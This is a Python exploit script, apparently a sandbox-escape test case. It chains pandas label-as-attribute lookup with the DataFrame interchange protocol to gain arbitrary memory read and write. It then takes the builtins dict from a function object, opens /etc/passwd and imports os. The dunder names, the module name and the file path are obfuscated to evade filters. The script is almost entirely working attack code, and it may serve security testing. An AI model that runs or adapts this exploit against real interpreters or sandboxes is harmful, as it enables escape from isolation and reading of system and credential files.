# source: pandas NDFrame.__getattr__ (labels readable as attributes, pandas-dev/pandas#19764) + DataFrame interchange protocol (pd.api.interchange.from_dataframe -> buffer_to_ndarray builds an ndarray from Buffer.ptr with ctypes.cast); Python reflected-operand priority for subclasses
# family: runtime-named attribute via pandas label lookup: a Series whose index label is the computed string "__dataframe__" answers hasattr/getattr with a script function; the interchange consumer then trusts script-made Buffer.ptr; a Series subclass sentinel (describe_null USE_SENTINEL) receives the raw-pointer array in its reflected __eq__
# goal: arbitrary memory read/write -> builtins dict (func_builtins) -> open() reads /etc/passwd, __import__ -> os
import numpy as np
import pandas as pd

u = chr(95) * 2
LEAK = []


class Sentinel(pd.Series):
    def __eq__(self, other):
        LEAK.append(other.to_numpy())
        return pd.Series([False] * len(other))


SENT = Sentinel([0])


class Buf:
    def __init__(self, ptr, n):
        self.ptr = ptr
        self.bufsize = n


class Col:
    def __init__(self, ptr):
        self.buf = Buf(ptr, 8)
        self.offset = 0
        self.dtype = (1, 64, "L", "=")
        self.describe_null = (2, SENT)

    def size(self):
        return 1

    def get_buffers(self):
        return {"data": (self.buf, self.dtype), "validity": None, "offsets": None}


class Frame:
    def __init__(self, ptr):
        self.ptr = ptr
        self.metadata = {}

    def get_chunks(self):
        return [self]

    def column_names(self):
        return ["m"]

    def get_column_by_name(self, name):
        return Col(self.ptr)


WHERE = [0]


def make(allow_copy=True):
    return Frame(WHERE[0])


src = pd.Series([make], index=[u + "dataframe" + u], dtype=object)


def mem(addr):
    WHERE[0] = addr
    pd.api.interchange.from_dataframe(src)
    return LEAK.pop()


def rd(addr):
    return int(mem(addr)[0])


def wr(addr, val):
    mem(addr)[0] = val


def f():
    return 0


p = rd(id(f) + 24)
holder = [None]
items = rd(id(holder) + 24)
wr(p, rd(p) + 1)
wr(items, p)
b = holder[0]
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
